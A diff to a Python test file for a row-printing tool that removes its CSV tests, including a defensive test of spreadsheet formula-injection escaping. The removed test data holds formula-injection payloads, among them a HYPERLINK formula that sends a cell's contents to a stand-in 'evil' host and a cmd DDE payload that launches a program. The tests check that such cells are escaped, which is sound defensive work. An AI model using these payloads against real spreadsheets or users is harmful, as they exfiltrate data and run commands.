@@ -4,7 +4,6 @@ Of a wide table 9 cells are the least of a name, 24 of a text. Every output esca
 JSON and YAML are read back as they were.
 """
 
-import csv
 import io
 import json
 import logging
@@ -55,7 +54,7 @@ def test_what_is_made_for_people_is_in_tables_only(capsys: pytest.CaptureFixture
     def shown(row: Mapping[str, Any]) -> Mapping[str, Any]:
         return {"bound": f"{row['bound']} bytes/s"}
 
-    for output, is_shown in (("table", True), ("wide", True), ("csv", False), ("json", False), ("yaml", False)):
+    for output, is_shown in (("table", True), ("wide", True), ("json", False), ("yaml", False)):
         print_rows(ROWS, output, shown=shown)
         assert ("0.5 bytes/s" in capsys.readouterr().out) is is_shown, output
 
@@ -78,7 +77,6 @@ def test_every_format_is_printed_and_read_back_whatever_the_encoding_of_stdout(e
     shown = [name.encode(encoding, "backslashreplace").decode(encoding) for name in NAMES]
     assert json.loads(printed(rows, "json", encoding)) == rows
     assert yaml.safe_load(printed(rows, "yaml", encoding)) == rows
-    assert [row["client_id"] for row in csv.DictReader(io.StringIO(printed(rows, "csv", encoding)))] == shown
     header, *lines = printed(rows, "table", encoding).splitlines()
     assert [line.split() for line in lines] == [[name, "1"] for name in shown]
     assert {cell_len(line.removesuffix("1")) for line in lines} == {header.index("used")}
@@ -100,10 +98,6 @@ def test_every_format_has_all_values(capsys: pytest.CaptureFixture[str], monkeyp
 
     assert json.loads(printed_as("json")) == ROWS
     assert yaml.safe_load(printed_as("yaml", document={"rows": ROWS})) == {"rows": ROWS}
-    first, second = csv.DictReader(io.StringIO(printed_as("csv"), newline=""))
-    shown = {"note": r'a,b "c"\nd', "bound": "1000000.0", "tags": '["x", "y"]', "is_on": "true", "until_ms": ""}
-    assert first == {"user": "alice", **shown}
-    assert second["user"] == ROWS[1]["user"]
     header, *lines = printed_as("wide").splitlines()
     assert header.split() == ["user", "bound", "note", "tags", "is", "on", "until", "ms"], "those of the table first"
     assert len(lines) == len(ROWS)
@@ -224,27 +218,6 @@ def is_safe(text: str) -> bool:
 )
 def test_what_a_terminal_would_not_show_as_it_is_is_escaped(text: str, shown: str) -> None:
     assert printable(text) == shown
-
-
-@pytest.mark.parametrize(
-    ("name", "cell"),
-    [
-        ('=HYPERLINK("http://evil/?"&A1,"open")', '\'=HYPERLINK("http://evil/?"&A1,"open")'),
-        ("+1", "'+1"),
-        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
-        ("@SUM(1)", "'@SUM(1)"),
-        ("\uff1d1+1", "'\uff1d1+1"),
-        ("\t=1+1", r"\t=1+1"),
-        ("a;=1+1;-2", "a;'=1+1;'-2"),
-        ("etl-1=a+b@c", "etl-1=a+b@c"),
-        (-1.5, "-1.5"),
-        (["=1"], '["=1"]'),
-    ],
-)
-def test_csv_has_no_cell_that_a_spreadsheet_runs(name: object, cell: str, capsys: pytest.CaptureFixture[str]) -> None:
-    print_rows([{"client_id": name}], "csv")
-    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
-    assert row["client_id"] == cell
 
 
 @pytest.mark.parametrize("stdout", [io.StringIO(), Terminal()], ids=["pipe", "terminal"])
